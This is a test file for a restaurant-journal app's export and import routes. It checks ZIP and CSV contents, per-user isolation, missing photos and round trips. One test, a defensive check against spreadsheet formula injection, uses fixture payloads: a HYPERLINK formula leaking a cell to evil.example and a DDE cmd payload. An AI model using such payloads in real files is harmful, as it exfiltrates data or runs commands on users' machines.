import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { fromBuffer } from "yauzl";

import type { AppUser } from "@bitelog/api/testing";
import { createAppUser, smallPng } from "@bitelog/api/testing";
import { testBackends } from "@bitelog/db/testing";

import type { TestServer } from "../testing/test-server";
import { startTestServer } from "../testing/test-server";

/** Every file of a ZIP, by name. */
function unzip(data: Buffer): Promise<Map<string, Buffer>> {
  return new Promise((resolve, reject) => {
    fromBuffer(data, { lazyEntries: true }, (error, zip) => {
      if (error) {
        reject(error);
        return;
      }
      const files = new Map<string, Buffer>();
      zip.on("entry", (entry: { fileName: string }) => {
        zip.openReadStream(entry as never, (streamError, stream) => {
          if (streamError) {
            reject(streamError);
            return;
          }
          const chunks: Buffer[] = [];
          stream.on("data", (chunk: Buffer) => chunks.push(chunk));
          stream.on("end", () => {
            files.set(entry.fileName, Buffer.concat(chunks));
            zip.readEntry();
          });
        });
      });
      zip.on("end", () => resolve(files));
      zip.on("error", reject);
      zip.readEntry();
    });
  });
}

interface ExportedJournal {
  format: string;
  version: number;
  account: Record<string, unknown>;
  entries: {
    id: string;
    restaurant_name: string;
    comment: string | null;
    would_get_again: boolean | null;
    photos: string[];
    missingPhotos: string[];
    thumbnail: string | null;
  }[];
}

interface LogLine {
  level: number;
  msg: string;
  storagePath?: string;
}

const WARN = 40;

describe.each(testBackends())("export route on $name", (backend) => {
  let server: TestServer;
  let photoDir: string;
  let alice: AppUser;
  let bob: AppUser;
  let empty: AppUser;
  const logLines: LogLine[] = [];
  beforeAll(async () => {
    photoDir = await mkdtemp(join(tmpdir(), "bitelog-rest-export-"));
    server = await startTestServer(
      backend,
      { PHOTO_DIR: photoDir, LOG_LEVEL: "warn" },
      { logDestination: { write: (line: string) => void logLines.push(JSON.parse(line) as LogLine) } },
    );
    [alice, bob, empty] = await Promise.all([
      createAppUser(server.db),
      createAppUser(server.db),
      createAppUser(server.db),
    ]);
  });
  const others: AppUser[] = [];
  const newUser = async () => {
    const user = await createAppUser(server.db);
    others.push(user);
    return user;
  };
  afterAll(async () => {
    await Promise.all([
      server.stop(),
      alice.dispose(),
      bob.dispose(),
      empty.dispose(),
      ...others.map((u) => u.dispose()),
    ]);
    await rm(photoDir, { recursive: true, force: true });
  });

  const auth = async (user: AppUser) => ({ authorization: `Bearer ${await user.idToken()}` });
  const newEntry = async (user: AppUser, body: Record<string, unknown>) => {
    const response = await server.request("/api/journal", {
      method: "POST",
      headers: { ...(await auth(user)), "content-type": "application/json" },
      body: JSON.stringify(body),
    });
    return ((await response.json()) as { id: string }).id;
  };
  const exportOf = async (user: AppUser, query = "") =>
    server.request(`/api/export${query}`, { headers: await auth(user) });
  const uploadPhotos = async (user: AppUser, entryId: string, count: number) => {
    const form = new FormData();
    for (let n = 0; n < count; n++) form.append("photos", new File([await smallPng()], `${n}.png`));
    const response = await server.request(`/api/journal/${entryId}/photos`, {
      method: "POST",
      headers: await auth(user),
      body: form,
    });
    expect(response.status).toBe(200);
  };
  const importInto = async (user: AppUser, file: Buffer, name: string) => {
    const form = new FormData();
    form.append("file", new File([new Uint8Array(file)], name));
    const response = await server.request("/api/import", {
      method: "POST",
      headers: await auth(user),
      body: form,
    });
    expect(response.status).toBe(200);
    return (await response.json()) as { imported: number; problems: unknown[] };
  };
  const journalOf = async (user: AppUser) => {
    const response = await server.request("/api/journal", { headers: await auth(user) });
    return (await response.json()) as {
      restaurant_name: string;
      restaurant_address: string | null;
      comment: string | null;
      what_you_had: string | null;
      would_get_again: boolean | null;
      photoUrls: string[];
    }[];
  };

  it("answers a ZIP of journal.json, journal.csv and the photos, with nothing of another user", async () => {
    const tricky = 'Crêpes, "chez" Zoë\nsecond line';
    const entryId = await newEntry(alice, {
      restaurantName: "Café Zoë",
      visitDate: "2025-03-01",
      rating: 5,
      comment: tricky,
      whatYouHad: "Galette complète",
      wouldGetAgain: true,
    });
    const form = new FormData();
    form.append("photos", new File([await smallPng()], "a.png", { type: "image/png" }));
    const uploaded = await server.request(`/api/journal/${entryId}/photos`, {
      method: "POST",
      headers: await auth(alice),
      body: form,
    });
    expect(uploaded.status).toBe(200);
    await newEntry(bob, { restaurantName: "Bob's secret", visitDate: "2025-03-02" });

    const response = await exportOf(alice);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("application/zip");
    expect(response.headers.get("cache-control")).toBe("private, no-store");
    expect(response.headers.get("content-disposition")).toMatch(
      /^attachment; filename="bitelog-export-\d{4}-\d{2}-\d{2}\.zip"$/,
    );
    const files = await unzip(Buffer.from(await response.arrayBuffer()));
    const journal = JSON.parse(files.get("journal.json")?.toString("utf8") ?? "") as ExportedJournal;
    expect(journal).toMatchObject({ format: "bitelog-export", version: 2, placesToTry: [] });
    expect(Object.keys(journal.account).sort()).toEqual([
      "dark_mode",
      "preferred_language",
      "timezone",
      "username",
    ]);
    expect(journal.entries).toHaveLength(1);
    const [entry] = journal.entries;
    expect(entry).toMatchObject({
      id: entryId,
      restaurant_name: "Café Zoë",
      comment: tricky,
      rating: 5,
      what_you_had: "Galette complète",
      would_get_again: true,
      things_to_remember: null,
    });
    expect(entry?.photos).toEqual([expect.stringMatching(new RegExp(`^photos/${entryId}/1\\.\\w+$`))]);
    expect(entry?.thumbnail).toBe(entry?.photos[0]);
    expect(files.get(entry?.photos[0] ?? "")?.length).toBeGreaterThan(0);
    expect([...files.keys()].some((name) => name.includes("Bob"))).toBe(false);
    const csv = files.get("journal.csv")?.toString("utf8") ?? "";
    expect(csv.split("\n")[0]).toBe(
      "\uFEFFid,restaurant_name,restaurant_address,restaurant_latitude,restaurant_longitude,location_precision,visit_date,rating,comment,what_you_had,would_get_again,things_to_remember",
    );
    expect(csv).toContain(`"Crêpes, ""chez"" Zoë\nsecond line"`);
    expect(csv).not.toContain("Bob's secret");
  });

  it("answers the CSV alone with format=csv", async () => {
    const response = await exportOf(alice, "?format=csv");
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    const csv = Buffer.from(await response.arrayBuffer());
    expect(csv.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(csv.toString("utf8").split("\n")[1]).toContain("Café Zoë");
  });

  it("exports an empty journal and refuses a request without a token", async () => {
    const files = await unzip(Buffer.from(await (await exportOf(empty)).arrayBuffer()));
    expect(
      (JSON.parse(files.get("journal.json")?.toString("utf8") ?? "") as ExportedJournal).entries,
    ).toEqual([]);
    expect([...files.keys()].sort()).toEqual(["journal.csv", "journal.json", "places-to-try.csv"]);
    expect((await server.request("/api/export")).status).toBe(401);
  });

  /** The user's CSV export: its text, and its rows (header left out) in visit date order. */
  const csvExportOf = async (user: AppUser) => {
    const text = Buffer.from(await (await exportOf(user, "?format=csv")).arrayBuffer()).toString("utf8");
    const [header = [], ...rows] = parse(text, { bom: true });
    const cell = (row: string[] | undefined, name: string) => row?.[header.indexOf(name)] ?? "";
    rows.sort((a, b) => cell(a, "visit_date").localeCompare(cell(b, "visit_date")));
    return { text, rows, cell };
  };
  /** What a round trip must keep of each entry, in name order. */
  const fieldsOf = async (user: AppUser) =>
    (await journalOf(user))
      .map(({ restaurant_name, restaurant_address, comment, what_you_had, would_get_again }) => ({
        restaurant_name,
        restaurant_address,
        comment,
        what_you_had,
        would_get_again,
      }))
      .sort((a, b) => a.restaurant_name.localeCompare(b.restaurant_name));

  it("writes no text cell a spreadsheet runs as a formula, and the import reads each back as it was", async () => {
    const owner = await newUser();
    const texts = [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      "+1+1",
      "-2+3",
      "@SUM(1+1)",
      "\uFF1D1+1",
      "'=already quoted",
      "'Quoted'",
      "Plain",
    ];
    for (const [n, text] of texts.entries()) {
      await newEntry(owner, {
        restaurantName: text,
        restaurantAddress: n === 0 ? "=cmd|' /C calc'!A0" : null,
        restaurantLatitude: -33.9,
        restaurantLongitude: -70.6,
        visitDate: `2025-01-0${n + 1}`,
        comment: `-${text}`,
        whatYouHad: `@${text}`,
      });
    }
    const { text, rows, cell } = await csvExportOf(owner);
    expect(rows).toHaveLength(texts.length);
    for (const row of rows) {
      expect(cell(row, "comment")).toMatch(/^'-/);
      expect(cell(row, "what_you_had")).toMatch(/^'@/);
    }
    expect(cell(rows[0], "restaurant_name")).toBe(`'${texts[0]}`);
    expect(cell(rows[0], "restaurant_address")).toBe("'=cmd|' /C calc'!A0");
    // A text that starts with a quote before a formula-like character gets one more quote.
    expect(cell(rows[5], "restaurant_name")).toBe("''=already quoted");
    expect(cell(rows[6], "restaurant_name")).toBe("'Quoted'");
    expect(cell(rows[7], "restaurant_name")).toBe("Plain");
    // Numbers are not texts: a negative coordinate stays a number.
    expect(cell(rows[7], "restaurant_latitude")).toBe("-33.9");
    // The ZIP's journal.csv is the same file.
    const files = await unzip(Buffer.from(await (await exportOf(owner)).arrayBuffer()));
    expect(files.get("journal.csv")?.toString("utf8")).toBe(text);

    const heir = await newUser();
    expect(await importInto(heir, Buffer.from(text), "journal.csv")).toMatchObject({
      imported: texts.length,
      problems: [],
    });
    expect(await fieldsOf(heir)).toEqual(await fieldsOf(owner));
  });

  it("writes would get again as true, false or nothing, and the import reads each back", async () => {
    const owner = await newUser();
    for (const [n, wouldGetAgain] of [true, false, null].entries()) {
      await newEntry(owner, { restaurantName: `Place ${n}`, visitDate: `2025-01-0${n + 1}`, wouldGetAgain });
    }
    const { text, rows, cell } = await csvExportOf(owner);
    expect(rows.map((row) => cell(row, "would_get_again"))).toEqual(["true", "false", ""]);

    const heir = await newUser();
    expect(await importInto(heir, Buffer.from(text), "journal.csv")).toMatchObject({ imported: 3 });
    expect((await fieldsOf(heir)).map((entry) => entry.would_get_again)).toEqual([true, false, null]);
  });

  it("keeps approximate positions approximate through journal.json and journal.csv", async () => {
    const owner = await newUser();
    const place = { restaurantLatitude: 48.85, restaurantLongitude: 2.35 };
    const city = await newEntry(owner, { restaurantName: "City only", visitDate: "2025-03-01", ...place });
    await newEntry(owner, { restaurantName: "Pinned", visitDate: "2025-03-02", ...place });
    await newEntry(owner, { restaurantName: "Nowhere", visitDate: "2025-03-03" });
    // What the geocoder writes when it found only the city.
    await server.db
      .updateTable("journal_entries")
      .set({ location_precision: "approximate" })
      .where("id", "=", city)
      .execute();
    const precisions = async (user: AppUser) =>
      (
        await server.db
          .selectFrom("journal_entries")
          .select(["restaurant_name", "location_precision"])
          .where("user_id", "=", user.accountId)
          .orderBy("visit_date")
          .execute()
      ).map((row) => [row.restaurant_name, row.location_precision]);
    const expected = [
      ["City only", "approximate"],
      ["Pinned", "exact"],
      ["Nowhere", null],
    ];
    expect(await precisions(owner)).toEqual(expected);

    const files = await unzip(Buffer.from(await (await exportOf(owner)).arrayBuffer()));
    const fromJson = await newUser();
    await importInto(fromJson, files.get("journal.json") ?? Buffer.alloc(0), "journal.json");
    expect(await precisions(fromJson)).toEqual(expected);
    const fromCsv = await newUser();
    await importInto(fromCsv, files.get("journal.csv") ?? Buffer.alloc(0), "journal.csv");
    expect(await precisions(fromCsv)).toEqual(expected);
  });

  it("leaves out a photo whose file is gone, says so in journal.json, and still finishes the archive", async () => {
    const owner = await newUser();
    const entryId = await newEntry(owner, { restaurantName: "Lost photo", visitDate: "2025-02-01" });
    await uploadPhotos(owner, entryId, 3);
    const stored = await server.db
      .selectFrom("entry_photos")
      .select("storage_path")
      .where("entry_id", "=", entryId)
      .orderBy("position")
      .execute();
    const lost = stored[0]?.storage_path ?? "";
    await rm(join(photoDir, lost));

    const response = await exportOf(owner);
    expect(response.status).toBe(200);
    const files = await unzip(Buffer.from(await response.arrayBuffer()));
    const journal = JSON.parse(files.get("journal.json")?.toString("utf8") ?? "") as ExportedJournal;
    const [entry] = journal.entries;
    expect(entry?.missingPhotos).toEqual([expect.stringMatching(new RegExp(`^photos/${entryId}/1\\.\\w+$`))]);
    expect(entry?.photos).toHaveLength(2);
    // The thumbnail was the lost first photo: the importer picks the first one there is.
    expect(entry?.thumbnail).toBeNull();
    expect([...files.keys()].filter((name) => name.startsWith("photos/")).sort()).toEqual(
      [...(entry?.photos ?? [])].sort(),
    );
    expect(
      logLines.filter((line) => line.level === WARN && line.storagePath === lost).map((line) => line.msg),
    ).toEqual(["export left out a photo whose file cannot be found"]);

    const heir = await newUser();
    const zip = Buffer.from(await (await exportOf(owner)).arrayBuffer());
    expect(await importInto(heir, zip, "bitelog-export.zip")).toMatchObject({ imported: 1, problems: [] });
    expect((await journalOf(heir)).map((e) => [e.restaurant_name, e.photoUrls.length])).toEqual([
      ["Lost photo", 2],
    ]);
  });
});
